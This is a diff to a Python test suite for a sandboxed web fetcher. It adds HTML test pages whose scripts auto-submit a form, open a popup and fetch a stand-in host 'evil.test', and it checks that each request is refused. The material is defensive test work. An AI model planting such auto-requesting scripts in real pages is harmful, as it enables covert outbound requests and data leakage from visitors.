@@ -71,6 +71,12 @@ def vectors(c: int) -> dict[str, Page]:
             <script>fetch('http://evil.test:{c}/?via=dns-fetch', {{mode: 'no-cors'}})
               .catch(() => {{}});</script>"""
         ),
+        "/v/form": Page(
+            f"""{text}<form id="f" method="post" action="http://{lo}/?via=form">
+            <input name="a" value="b"></form>
+            <script>document.getElementById('f').submit();</script>"""
+        ),
+        "/v/popup": Page(f"{text}<script>window.open('http://{lo}/?via=popup');</script>"),
         "/v/dns-js": Page(
             f"{text}<script>location.href='http://evil.test:{c}/?via=dns-js';</script>"
         ),
@@ -87,6 +93,8 @@ EXPECTED_VIAS = {
     "/v/subresource": {"img", "css", "script", "fetch", "beacon", "ws", "localhost", "decimal"},
     "/v/dns": {"dns-img", "dns-iframe", "dns-fetch"},
     "/v/dns-js": {"dns-js"},
+    "/v/form": {"form"},
+    "/v/popup": {"popup"},
 }
 
 
@@ -148,7 +156,7 @@ def test_canary_gets_zero_hits(
     target_host = "evil.test" if "dns" in path else "127.0.0.1"
     assert (target_host, canary.port) in refused, refused
     # Navigations that ended on a refusal must not be presented as the lead's site.
-    if path in ("/v/redirect", "/v/redirect-dns", "/v/meta", "/v/js", "/v/dns-js"):
+    if path in ("/v/redirect", "/v/redirect-dns", "/v/meta", "/v/js", "/v/dns-js", "/v/form"):
         assert result.website.source == "card"
         assert "refused" in (result.website.error or ""), result.website.error
     else:
